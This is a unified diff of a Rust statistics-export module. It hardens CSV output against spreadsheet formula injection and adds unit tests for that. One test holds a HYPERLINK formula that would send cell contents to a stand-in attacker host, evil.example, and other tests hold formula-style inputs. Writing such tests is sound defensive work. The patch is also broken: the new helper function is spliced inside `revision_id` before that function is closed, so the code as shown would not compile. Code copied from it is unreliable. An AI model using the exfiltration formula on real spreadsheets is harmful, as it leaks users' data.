@@ -828,7 +828,7 @@ impl<'a> StatsViews<'a> {
                 out,
                 "{},{},{}",
                 r.period,
-                r.agency,
+                csv_cell(&r.agency),
                 csv_cell(r.procedure.as_deref().unwrap_or(""))
             );
             for c in Col::ALL {
@@ -912,11 +912,17 @@ impl Serialize for JsonRow<'_> {
     }
 }
 
+/// One CSV cell of `/api/stats.csv`, safe to open in a spreadsheet: a cell that starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula there (OWASP "CSV
+/// injection"), so it gets a leading `'` (a plain negative number stays as it is); a cell with
+/// a comma, quote, CR or LF is quoted.
 pub(crate) fn csv_cell(s: &str) -> String {
-    if s.contains([',', '"', '\n']) {
+    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_negative_number(s);
+    let s = if risky { format!("'{s}") } else { s.to_owned() };
+    if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_owned()
+        s
     }
 }
 
@@ -953,6 +959,18 @@ fn per_hundred(bp: u64) -> u64 {
 
 fn revision_id(p: Period, agency: &str) -> String {
     format!("dieu-chinh-{p}-{agency}")
+/// `-12`, `-1.5`, `-1,5`: a number, not a formula.
+fn is_negative_number(s: &str) -> bool {
+    let Some(digits) = s.strip_prefix('-') else {
+        return false;
+    };
+    let (whole, frac) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
+    !whole.is_empty()
+        && !frac.is_empty()
+        && whole
+            .bytes()
+            .chain(frac.bytes())
+            .all(|b| b.is_ascii_digit())
 }
 
 /// The statistics warnings of a run, for the public data-notes page.
@@ -978,5 +996,27 @@ mod per_hundred_tests {
         assert_eq!(super::per_hundred(10_000), 100);
         assert_eq!(super::per_hundred(30), 1);
         assert_eq!(super::per_hundred(0), 0);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_cell;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_are_neutralised() {
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
+        );
+        assert_eq!(csv_cell("+1+cmd"), "'+1+cmd");
+        assert_eq!(csv_cell("-2+3"), "'-2+3");
+        assert_eq!(csv_cell("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_cell("\tx"), "'\tx");
+        assert_eq!(csv_cell("\rx"), "\"'\rx\"");
+        assert_eq!(csv_cell("a\rb"), "\"a\rb\"", "a bare CR is quoted");
+        assert_eq!(csv_cell("-12"), "-12", "a plain negative number stays");
+        assert_eq!(csv_cell("-1,5"), "\"-1,5\"");
+        assert_eq!(csv_cell("Điều chỉnh"), "Điều chỉnh");
     }
 }
